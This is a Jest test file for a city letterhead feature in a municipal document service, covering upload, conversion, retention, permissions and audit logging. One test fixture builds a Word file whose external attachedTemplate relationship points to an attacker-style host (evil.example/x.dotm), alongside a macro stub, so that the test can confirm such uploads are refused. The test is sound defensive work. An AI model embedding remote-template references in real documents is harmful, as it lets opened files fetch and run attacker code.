import { afterAll, beforeAll, describe, expect, test } from '@jest/globals';
import { OpenedDocx } from '@allmende/document-formats/office-export/trials/opened-docx';
import { sampleLetterhead } from '@allmende/document-formats/office-export/trials/sample-letterhead';
import { RemoveOrphans } from '../src/features/documents/remove-orphans.ts';
import { RunRetention } from '../src/features/privacy/run-retention.ts';
import { ConversionWorker } from '../src/foundation/conversions/conversion-worker.ts';
import { done, newCities, newcomer, publish, type City } from './city.ts';
import { seenConversion } from './converting.ts';
import { docm, png, zip } from './sample-files.ts';
import { partsOf, takingAlong } from './taking-along.ts';
import { openWorld, type World } from './world.ts';

let world: World;
let owner: City;
let reader: City;
beforeAll(async () => {
  world = await openWorld();
  [owner, reader] = (await newCities(world, 2, 'administrator')) as [City, City];
}, 120_000);
afterAll(() => world?.close());
const { got, fetched } = takingAlong(() => world);

describe('the letterhead of a city', () => {
  const bring = async (who: City, name: string, bytes: Uint8Array) => {
    const body = new FormData();
    body.append('files', new Blob([new Uint8Array(bytes)]), name);
    const response = await who.client.send(`/letterheads?municipalityId=${who.id}`, { method: 'POST', body });
    return { status: response.status, ...((await response.json()) as { conversion?: string; code?: string }) };
  };
  const kept = async (who: City) =>
    (
      await who.client.data<{ municipality: { letterhead: { name: string; notes: { code: string }[] } | null } }>(
        `query ($ags: String!) { municipality(ags: $ags) { letterhead { name notes { code } } } }`,
        { ags: owner.ags },
      )
    ).municipality.letterhead;

  test('is opened and tried before it is the city’s; what could not be taken over is said', async () => {
    const brought = await bring(owner, 'Briefkopf.docx', sampleLetterhead(png()));
    expect(brought.status).toBe(201);
    expect(await kept(owner)).toBeNull();
    const { seen, bytes } = await fetched(owner.client, brought.conversion!);
    expect(seen.file!.name).toBe('Probeseite.docx');
    expect(seen.notes).toMatchObject([
      { code: 'letterhead-text-left', message: expect.stringContaining('Formatvorlagen') },
    ]);
    expect(partsOf(new OpenedDocx(bytes), 'header')).toContain('Stadt Musterstadt');
    expect(await kept(owner)).toEqual({ name: 'Briefkopf.docx', notes: [{ code: 'letterhead-text-left' }] });
    const colleague = await newcomer(world, owner.ags, 'reader');
    expect(await kept(colleague)).not.toBeNull();
    expect(await kept(reader)).toBeNull();
  });

  test('dresses the documents of the city', async () => {
    const { slug } = await publish(world, owner, 'Merkblatt Kopf');
    const { bytes } = await got(owner.client, slug, { format: 'DOCX', filled: true, withLetterhead: true });
    expect(partsOf(new OpenedDocx(bytes), 'header')).toContain('Die Oberbürgermeisterin');
  });

  test('is not swept away, and not what nobody may sweep', async () => {
    await world.rows(`UPDATE conversion SET finished_at = now() - interval '2 days' WHERE finished_at IS NOT NULL`);
    await world.application.get(RunRetention).do(new Date());
    await world.application.get(RemoveOrphans).do(new Date(Date.now() + 1_000));
    const { tryLetterhead } = await owner.client.data<{ tryLetterhead: { conversion: { id: string } } }>(
      `mutation ($input: TryLetterheadInput!) { tryLetterhead(input: $input) { conversion { id } errors { code } } }`,
      { input: { municipalityId: owner.id } },
    );
    expect((await fetched(owner.client, tryLetterhead.conversion.id)).seen.file!.name).toBe('Probeseite.docx');
  });

  test.each<[string, string, () => Uint8Array, string | null]>([
    ['with macros', 'Makro.docx', docm, null],
    ['that is no Word document', 'Archiv.docx', () => zip([['a.txt', 'a']]), null],
    [
      'with programs in it',
      'Vorlage.docx',
      () => sampleLetterhead(png(), { 'word/vbaProject.bin': 'x' }),
      'letterhead-macros',
    ],
    [
      'that fetches from elsewhere',
      'Fern.docx',
      () =>
        sampleLetterhead(png(), {
          'word/_rels/settings.xml.rels':
            '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://evil.example/x.dotm" TargetMode="External"/></Relationships>',
        }),
      'letterhead-template',
    ],
  ])('is refused %s, and the one before stays', async (_, name, bytes, reason) => {
    const brought = await bring(owner, name, bytes());
    if (brought.conversion) {
      await world.application.get(ConversionWorker).workOff();
      const seen = (await seenConversion(owner.client, brought.conversion))!;
      expect(seen).toMatchObject({ state: 'FAILED', file: null, problem: { code: reason } });
    } else expect([brought.status, brought.code]).toEqual([422, 'INVALID_INPUT']);
    expect((await kept(owner))!.name).toBe('Briefkopf.docx');
  });

  test('is brought and removed by those who look after the city profile, and that is on record', async () => {
    const editor = await newcomer(world, owner.ags, 'editor');
    expect((await bring(editor, 'x.docx', sampleLetterhead(png()))).status).toBe(403);
    expect((await bring({ ...reader, id: owner.id }, 'x.docx', sampleLetterhead(png()))).status).toBe(404);
    await done(owner.client, 'removeLetterhead', { municipalityId: owner.id });
    expect(await kept(owner)).toBeNull();
    const entries = await world.rows<{ verb: string }>(
      `SELECT DISTINCT verb FROM audit_entry WHERE verb LIKE 'municipality.%Letterhead' AND municipality_id = $1 ORDER BY verb`,
      [owner.id.slice(4)],
    );
    expect(entries.map(({ verb }) => verb)).toEqual(['municipality.removeLetterhead', 'municipality.setLetterhead']);
  });
});
